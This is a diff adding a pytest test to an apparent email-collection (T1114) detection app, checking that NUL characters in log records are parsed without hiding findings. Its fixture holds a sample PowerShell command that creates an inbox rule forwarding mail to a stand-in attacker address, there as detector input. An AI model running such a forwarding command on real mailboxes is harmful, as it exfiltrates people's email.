@@ -199,6 +199,33 @@ def test_a_lone_surrogate_in_a_finding_does_not_end_the_search(built_app):
     assert out["t1114_status"] == "finding" and "m?@contoso.com" in out["t1114_reason"]
 
 
+def test_a_nul_character_neither_ends_the_search_nor_hides_a_finding(built_app):
+    """Python 3.9's csv module stops at a NUL ("line contains NUL"), which ended the search with
+    no events back; both record paths now read it as 3.11 and later do (app/csv_rows.py), on
+    the NUL's own row, a row whose quoted cell spans lines, and a row holding the stand-in the
+    escaping uses."""
+    forward = "New-InboxRule -Name a\x00b -ForwardTo x@evil.example"
+    records = [
+        {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": forward, "Computer": "h\x00st"},
+        {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "_raw": "line one\x00\r\nline two",
+         "ScriptBlockText": "Get-Date"},
+        {"sourcetype": "o365:management:activity", "_raw": "{\"Operation\": \"Get-Mailbox\"}\x00\ufdd00\ufdd01",
+         "Operation": "Get-Mailbox"},
+        {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": forward.replace("x@", "y@")},
+    ]
+    outputs = []
+    for env in (None, LINES):
+        result = run(script_path(built_app), records, args=["mode=all"], env=env)
+        assert result["exit_code"] == 0, result["stderr"][-2000:]
+        assert not [text for level, text in result["messages"] if level == "ERROR"]
+        out = result["records"]
+        assert [record.get("_raw", "") for record in out] == [record.get("_raw", "") for record in records]
+        assert out[0]["ScriptBlockText"] == forward and out[0]["Computer"] == "h\x00st"
+        assert [record["t1114_status"] for record in out] == ["finding", "", "", "finding"]
+        outputs.append(comparable(out))
+    assert outputs[0] == outputs[1]
+
+
 @pytest.mark.parametrize("value", ["", "a", "a$b", "$", "$$", ";", "$;$"])
 def test_multivalue_cells_decode_what_they_encode(value):
     values = [value, "x", value]
